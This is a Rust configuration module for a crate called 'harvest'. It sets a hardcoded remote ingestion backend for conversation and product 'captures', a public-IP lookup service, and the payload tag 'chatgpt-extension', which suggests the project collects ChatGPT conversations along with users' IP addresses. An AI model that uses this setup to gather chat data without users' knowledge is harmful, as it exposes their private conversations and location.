//! Runtime configuration for delivery.
//!
//! Use the builder pattern to customize, or [`HarvestConfig::from_env`] to
//! pick up `HARVEST_*` overrides on top of the defaults.
//!
//! ```
//! use harvest::config::HarvestConfig;
//! use std::time::Duration;
//!
//! let config = HarvestConfig::default()
//!     .with_backend_url("http://localhost:8080/")
//!     .with_ip_lookup_timeout(Duration::from_secs(1));
//! assert_eq!(config.ingest_url(), "http://localhost:8080/api/ingest");
//! ```

use std::path::PathBuf;
use std::time::Duration;

use crate::error::ConfigError;

/// Ingestion backend the captures are delivered to.
pub const DEFAULT_BACKEND_URL: &str = "https://aunpbdtpdp.us-west-2.awsapprunner.com";

/// Public IP lookup service.
pub const DEFAULT_IP_LOOKUP_URL: &str = "https://api.ipify.org/?format=json";

/// Tag identifying this collector in every payload.
pub const DEFAULT_SOURCE_TAG: &str = "chatgpt-extension";

pub const ENV_BACKEND_URL: &str = "HARVEST_BACKEND_URL";
pub const ENV_IP_LOOKUP_URL: &str = "HARVEST_IP_LOOKUP_URL";
pub const ENV_SETTINGS_PATH: &str = "HARVEST_SETTINGS_PATH";
pub const ENV_TIMEOUT_SECS: &str = "HARVEST_TIMEOUT_SECS";

const INGEST_PATH: &str = "/api/ingest";
const INGEST_PRODUCT_PATH: &str = "/api/ingest-product";

/// Delivery configuration.
#[derive(Debug, Clone, PartialEq)]
pub struct HarvestConfig {
    /// Base URL of the ingestion backend, without trailing slash
    pub backend_url: String,
    /// IP lookup service URL
    pub ip_lookup_url: String,
    /// Upper bound on the IP lookup (default: 5s)
    pub ip_lookup_timeout: Duration,
    /// Upper bound on each delivery POST (default: 30s)
    pub request_timeout: Duration,
    /// Settings file; `None` means the platform data dir
    pub settings_path: Option<PathBuf>,
    /// Value of the `source` field in payloads
    pub source_tag: String,
}

impl Default for HarvestConfig {
    fn default() -> Self {
        Self {
            backend_url: DEFAULT_BACKEND_URL.to_string(),
            ip_lookup_url: DEFAULT_IP_LOOKUP_URL.to_string(),
            ip_lookup_timeout: Duration::from_secs(5),
            request_timeout: Duration::from_secs(30),
            settings_path: None,
            source_tag: DEFAULT_SOURCE_TAG.to_string(),
        }
    }
}

impl HarvestConfig {
    /// Create a new HarvestConfig with default values.
    pub fn new() -> Self {
        Self::default()
    }

    /// Set the backend base URL. A trailing slash is dropped.
    pub fn with_backend_url(mut self, url: impl Into<String>) -> Self {
        self.backend_url = url.into().trim_end_matches('/').to_string();
        self
    }

    /// Set the IP lookup service URL.
    pub fn with_ip_lookup_url(mut self, url: impl Into<String>) -> Self {
        self.ip_lookup_url = url.into();
        self
    }

    /// Set the IP lookup timeout.
    pub fn with_ip_lookup_timeout(mut self, timeout: Duration) -> Self {
        self.ip_lookup_timeout = timeout;
        self
    }

    /// Set the delivery request timeout.
    pub fn with_request_timeout(mut self, timeout: Duration) -> Self {
        self.request_timeout = timeout;
        self
    }

    /// Set an explicit settings file path.
    pub fn with_settings_path(mut self, path: impl Into<PathBuf>) -> Self {
        self.settings_path = Some(path.into());
        self
    }

    /// Set the payload source tag.
    pub fn with_source_tag(mut self, tag: impl Into<String>) -> Self {
        self.source_tag = tag.into();
        self
    }

    /// Defaults overridden by `HARVEST_*` environment variables.
    ///
    /// Unset or empty variables keep the default.
    pub fn from_env() -> Result<Self, ConfigError> {
        let mut config = Self::default();

        if let Some(url) = env_value(ENV_BACKEND_URL) {
            validate_url(ENV_BACKEND_URL, &url)?;
            config = config.with_backend_url(url);
        }

        if let Some(url) = env_value(ENV_IP_LOOKUP_URL) {
            validate_url(ENV_IP_LOOKUP_URL, &url)?;
            config = config.with_ip_lookup_url(url);
        }

        if let Some(path) = env_value(ENV_SETTINGS_PATH) {
            config = config.with_settings_path(path);
        }

        if let Some(secs) = env_value(ENV_TIMEOUT_SECS) {
            let parsed = secs.trim().parse::<u64>().map_err(|_| ConfigError::InvalidTimeout {
                variable: ENV_TIMEOUT_SECS.to_string(),
                value: secs.clone(),
            })?;
            config = config.with_request_timeout(Duration::from_secs(parsed));
        }

        Ok(config)
    }

    /// Conversation ingestion endpoint.
    pub fn ingest_url(&self) -> String {
        format!("{}{}", self.backend_url, INGEST_PATH)
    }

    /// Product ingestion endpoint.
    pub fn ingest_product_url(&self) -> String {
        format!("{}{}", self.backend_url, INGEST_PRODUCT_PATH)
    }

    /// The settings file, falling back to `<data_dir>/harvest/settings.json`.
    pub fn resolved_settings_path(&self) -> Result<PathBuf, ConfigError> {
        match &self.settings_path {
            Some(path) => Ok(path.clone()),
            None => dirs::data_dir()
                .map(|dir| dir.join("harvest").join("settings.json"))
                .ok_or(ConfigError::NoDataDirectory),
        }
    }
}

fn env_value(name: &str) -> Option<String> {
    std::env::var(name).ok().filter(|v| !v.trim().is_empty())
}

fn validate_url(variable: &str, value: &str) -> Result<(), ConfigError> {
    if value.starts_with("http://") || value.starts_with("https://") {
        Ok(())
    } else {
        Err(ConfigError::InvalidUrl {
            variable: variable.to_string(),
            value: value.to_string(),
        })
    }
}
